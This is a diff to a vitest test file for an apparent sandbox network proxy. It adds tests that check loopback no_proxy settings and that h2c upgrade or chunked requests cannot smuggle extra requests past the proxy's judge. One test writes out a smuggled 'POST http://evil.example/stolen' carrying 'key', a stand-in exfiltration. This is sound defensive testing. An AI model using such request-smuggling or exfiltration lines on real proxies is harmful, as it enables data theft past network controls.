@@ -1,6 +1,6 @@
 import { createHash, randomBytes } from 'node:crypto';
 import { startProxy } from '@tau/testkit';
-import { describe, expect, test } from 'vitest';
+import { describe, expect, onTestFinished, test } from 'vitest';
 import type { Destination } from '../src/sandbox/proxy/destination.ts';
 import type { Verdict } from '../src/sandbox/proxy/judge.ts';
 import { dial, joinAs, openPlace, serveTcp, serveWeb } from './proxy-place.ts';
@@ -155,6 +155,14 @@ describe('the environment', () => {
     expect(env.MAVEN_OPTS).toMatch(new RegExp(`^-Xmx1g -Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort=${port} `));
     expect(env.GRADLE_OPTS).toMatch(/^-Dhttp\.proxyHost/);
     expect(JSON.stringify(env)).not.toContain('hush');
+    expect(env.MAVEN_OPTS).toMatch(/ -Dhttp\.nonProxyHosts=localhost\|127\.\*\|\[::1\]$/);
+  });
+
+  test('leads there under names of loopback that mean the machine, too', async () => {
+    const { network } = openPlace();
+    const { env } = await network.join({ id: 'one', hosts: [], machine: ['127.0.0.1'] });
+    for (const name of ['no_proxy', 'NO_PROXY', 'npm_config_noproxy']) expect(env[name]).toBe('localhost,::1');
+    expect(env.GRADLE_OPTS).toMatch(/ -Dhttp\.nonProxyHosts=localhost\|\[::1\]$/);
   });
 });
 
@@ -241,6 +249,60 @@ describe('what is refused', () => {
     const answer = await ask(port, first + second);
     expect(answer.match(/HTTP\/1\.1 200/g)).toHaveLength(1);
     expect(web.seen).toMatchObject([{ url: '/first', body: 'ok' }]);
+  });
+
+  test.each([
+    ['a protocol', ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk']],
+    ['a protocol, not told as a matter of the connection', ['Upgrade: h2c', 'HTTP2-Settings: AAMAAABk']],
+    ['nothing', []],
+    ['nothing, and says itself where it ends', ['Transfer-Encoding: chunked'], '0\r\n\r\n'],
+  ])(
+    'a request that asks for %s opens no way past the judge in the proxy that tau itself needs',
+    async (_, asked, body = '') => {
+      const web = await serveWeb();
+      const outer = await startProxy({ target: `http://127.0.0.1:${web.port}` });
+      onTestFinished(() => outer.close());
+      const { network } = openPlace({ env: { HTTP_PROXY: outer.url } });
+      const { port, authorization } = await joinAs(network, 'one', 'far.example');
+      const client = await dial(port);
+      client.say(`${['GET http://far.example/ok HTTP/1.1', authorization, ...asked].join('\r\n')}\r\n\r\n${body}`);
+      await expect.poll(() => client.heard().toString()).toContain('hello from outside');
+      client.say('POST http://evil.example/stolen HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 3\r\n\r\nkey');
+      client.socket.end();
+      await client.toEnd();
+      expect(outer.passed).toEqual(['GET http://far.example/ok']);
+      expect(web.seen).toMatchObject([{ url: '/ok', headers: { connection: 'close' } }]);
+      expect(web.seen[0]?.headers).not.toHaveProperty('upgrade');
+      expect(web.seen[0]?.headers).not.toHaveProperty('http2-settings');
+    },
+  );
+
+  test('behind a request for another protocol every byte goes to its server, whatever host it names', async () => {
+    const evil = await serveWeb();
+    let heard = '';
+    const server = await serveTcp((socket) => {
+      socket.on('data', (chunk) => {
+        if (heard === '') socket.write('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
+        heard += chunk;
+      });
+      socket.once('end', () => socket.end());
+    });
+    const { network, refusals } = openPlace();
+    const { port, authorization } = await joinAs(network, 'one', 'shop.public');
+    const client = await dial(port);
+    const lines = [`GET http://shop.public:${server.port}/ HTTP/1.1`, 'Connection: Upgrade', 'Upgrade: h2c'];
+    client.say(`${[...lines, authorization].join('\r\n')}\r\n\r\n`);
+    await client.atLeast(38);
+    client.say(`GET http://evil.public:${evil.port}/ HTTP/1.1\r\nHost: evil.public\r\n\r\n`);
+    client.socket.end();
+    await client.toEnd();
+    expect(heard).toContain('GET http://evil.public');
+    expect(evil.seen).toEqual([]);
+    // As a first request it is judged.
+    expect(await ask(port, `GET http://evil.public:${evil.port}/ HTTP/1.1\r\n${authorization}\r\n\r\n`)).toMatch(
+      / 403 /,
+    );
+    expect(refusals).toMatchObject([{ host: 'evil.public' }]);
   });
 
   test('SOCKS5: other hosts, waiting for connections, datagrams, no offer that is known', async () => {
